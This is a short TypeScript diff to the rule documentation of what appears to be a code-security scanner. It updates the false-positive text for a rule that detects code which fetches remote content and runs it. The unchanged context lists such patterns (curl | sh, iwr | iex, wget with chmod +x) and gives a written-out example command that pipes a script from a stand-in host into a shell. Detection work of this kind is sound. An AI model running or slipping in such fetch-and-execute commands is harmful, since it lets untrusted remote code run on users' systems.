@@ -186,7 +186,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     catches:
       'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, or a command line that downloads a file and makes it executable (wget ... && chmod +x).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
-    falsePositives: 'Installers of developer tools (rare in libraries).',
+    falsePositives:
+      'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
   },
   {
     id: 'powershell-encoded-command',
